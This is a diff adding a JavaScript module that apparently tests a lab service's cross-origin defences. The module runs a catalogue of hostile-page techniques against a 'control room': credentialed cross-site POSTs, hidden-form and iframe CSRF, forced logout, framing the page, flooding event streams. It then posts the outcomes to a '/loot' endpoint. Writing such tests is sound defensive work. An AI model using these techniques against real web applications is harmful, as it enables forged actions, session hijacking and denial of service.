@@ -1,0 +1,61 @@
+// What a hostile script tries against the control room at `lab`, from whatever origin it runs at: every way in which a page
+// can send a request or get hold of another page. It tells the attacker's server what came of it.
+
+const crash = '/lab/instances/api-2/crash';
+const run = '{"experiments":["steady"],"modes":["session-memory"]}';
+const json = { 'content-type': 'application/json' };
+
+const post = (url, init = {}) => fetch(url, { method: 'POST', credentials: 'include', ...init });
+const add = (name, properties) =>
+  document.documentElement.appendChild(Object.assign(document.createElement(name), properties));
+
+/** Each gives what it got, or throws. */
+const ways = {
+  'a request to its own origin': async () => (await post(crash)).status,
+  'a run at its own origin': async () => (await post('/lab/runs', { headers: json, body: run })).status,
+  'a request': async (lab) => (await post(lab + crash, { mode: 'no-cors' })).type,
+  'a request that asks for leave': async (lab) => (await post(lab + crash)).status,
+  'a request with JSON': async (lab) => (await post(`${lab}/lab/runs`, { headers: json, body: run })).status,
+  'JSON as text': async (lab) => (await post(`${lab}/lab/runs`, { mode: 'no-cors', body: run })).type,
+  'another method': async (lab) =>
+    (await fetch(`${lab}/lab/instances`, { method: 'PUT', body: '{"count":1}' })).status,
+  'what the control room holds': async (lab) => (await fetch(`${lab}/lab/state`)).text(),
+  'a log-out at the API': async (lab) =>
+    (await post(`${lab}/api/session-redis/logout`, { mode: 'no-cors' })).type,
+  'a beacon': (lab) => navigator.sendBeacon(lab + crash),
+  'an image': (lab) => void add('img', { src: lab + crash }),
+  'a script': (lab) => void add('script', { src: lab + crash }),
+  'a form in a frame': (lab) => {
+    add('iframe', { name: 'hidden' });
+    add('form', { method: 'post', action: lab + crash, target: 'hidden', enctype: 'text/plain' }).submit();
+  },
+  'a form in a window': (lab) =>
+    add('form', { method: 'post', action: lab + crash, target: '_blank' }).submit(),
+  'the page in a frame': async (lab) => {
+    const frame = add('iframe', { src: `${lab}/` });
+    await new Promise((loaded) => setTimeout(loaded, 500));
+    return frame.contentWindow.fetch(lab + crash, { method: 'POST' });
+  },
+  'the page in a window': async (lab) => {
+    const page = open(`${lab}/`);
+    await new Promise((loaded) => setTimeout(loaded, 500));
+    return page.fetch(lab + crash, { method: 'POST' });
+  },
+  'the streams': (lab) => Array.from({ length: 60 }, () => new EventSource(`${lab}/lab/events`)).length,
+};
+
+/** What is blocked in silence may neither succeed nor fail. */
+const noAnswer = () => new Promise((give) => setTimeout(give, 3000, 'no answer'));
+
+/** @param {string} when */
+export async function attack(lab, when) {
+  const outcomes = Object.entries(ways).map(async ([name, way]) => {
+    try {
+      return [name, String(await Promise.race([way(lab), noAnswer()]))];
+    } catch (error) {
+      return [name, error.name];
+    }
+  });
+  const body = JSON.stringify({ when, outcomes: Object.fromEntries(await Promise.all(outcomes)) });
+  await fetch(new URL('/loot', import.meta.url), { method: 'POST', mode: 'no-cors', body });
+}
